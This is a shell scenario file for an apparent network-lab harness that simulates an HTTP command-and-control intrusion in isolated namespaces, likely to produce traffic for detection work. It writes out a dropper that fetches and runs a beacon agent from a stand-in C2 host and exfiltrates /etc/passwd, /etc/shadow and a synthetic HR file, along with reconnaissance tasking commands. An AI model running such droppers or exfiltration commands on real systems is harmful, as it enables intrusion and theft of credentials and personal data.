# sourced by run-scenario.sh: the story played between the hosts
# HTTP command and control: the victim fetches a dropper script (curl), an ELF and a python agent
# (wget) from the attacker's web server, known by a name (cdn-sync-update.net) its resolver
# answers; the agent polls /api/v1/poll every 5 s +-20 % (25 polls, a fresh connection and DNS
# lookup each), gets one task at poll 8 and POSTs its output, and at poll 15 POSTs a tar.gz of
# /etc/passwd, /etc/shadow and an HR file. A benign client browses the victim's web site meanwhile.
NET=172.31.220; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
EXTRA_HOSTS="$NET.66 cdn-sync-update.net"
C2NAME=cdn-sync-update.net
services() {
  printf 'nameserver %s\n' $D > "/etc/netns/$P-vic/resolv.conf"    # the victim's resolver is the lab's DNS
  mkdir -p "$RUN/c2files" "$RUN/c2out" "$RUN/victim/hr"; chmod 777 "$RUN/victim"
  cp "$HERE/tools/beacon-agent.py" "$RUN/c2files/agent.py"
  cp /usr/bin/true "$RUN/c2files/sysupd"                                 # an ELF (a harmless one)
  printf '#!/bin/sh\n# system update helper\ncd "$(dirname "$0")"\nchmod +x sysupd; ./sysupd\nexec /usr/bin/python3 agent.py http://%s 5 0.2 25 15 /etc/passwd /etc/shadow hr/employees.csv\n' $C2NAME > "$RUN/c2files/update.sh"
  /usr/bin/python3 - "$RUN/victim/hr/employees.csv" <<'PY'
import random, sys
random.seed(7)
first = ["Anna", "Ben", "Chloe", "David", "Emma", "Felix", "Grace", "Hugo", "Iris", "Jonas", "Kira", "Liam"]
last = ["Meyer", "Schmidt", "Novak", "Rossi", "Dubois", "Jansen", "Kowalski", "Berg", "Costa", "Weber"]
with open(sys.argv[1], "w") as f:
    f.write("id,name,department,salary,iban\n")
    for i in range(1, 201):
        f.write("%d,%s %s,%s,%d,DE%020d\n" % (1000 + i, random.choice(first), random.choice(last),
                random.choice(["Sales", "IT", "HR", "Finance", "Ops"]), random.randrange(38000, 95000, 500), random.randrange(10**19, 10**20)))
PY
  nsx att /usr/bin/python3 "$HERE/tools/c2-server.py" $A 80 "$RUN/c2files" "$RUN/c2out" 8 'id; uname -m; wc -l /etc/passwd; ls -l hr' 400 >"$RUN/logs/c2.log" 2>&1 &
}
play() {
  note "attacker (C2 web server, name $C2NAME) $A:80; victim $V (runs the implant; its resolver is $D); benign client $C; dns $D"
  benign_background
  note "1 delivery: the victim resolves $C2NAME, curl GET /dl/update.sh (dropper), wget GET /dl/sysupd (ELF) and /dl/agent.py (python), then runs update.sh"
  nsx vic curl -s -A 'curl/7.88.1' -o "$RUN/victim/update.sh" http://$C2NAME/dl/update.sh || true
  sleep 1
  ( cd "$RUN/victim" && nsx vic wget -q http://$C2NAME/dl/sysupd http://$C2NAME/dl/agent.py ) || true
  sleep 1
  note "2 beacon: agent.py polls GET /api/v1/poll?s=a3f9c2e1 every 5 s +-20 % (uniform jitter, seed fixed), 25 polls, each a new TCP connection after a DNS lookup (A and AAAA); Firefox UA; header X-Session a3f9c2e1"
  note "3 tasking: poll 8 answers a task (id; uname -m; wc -l /etc/passwd; ls -l hr); the agent POSTs the output to /api/v1/result"
  note "4 exfiltration: after poll 15 the agent POSTs a tar.gz of /etc/passwd, /etc/shadow, hr/employees.csv to /api/v1/upload (application/octet-stream)"
  ( cd "$RUN/victim" && nsx vic timeout 200 sh update.sh >"$RUN/logs/agent.log" 2>&1 ) &
  local agentpid=$!
  for i in 1 2 3 4 5 6; do sleep 18; benign_background; done
  wait $agentpid || true
  ls -l "$RUN/c2out" > "$RUN/logs/c2out.txt"
  note "5 the benign client browses the victim's site every ~20 s meanwhile (Chrome UA), with DNS lookups of portal/files.corp.lan"
}
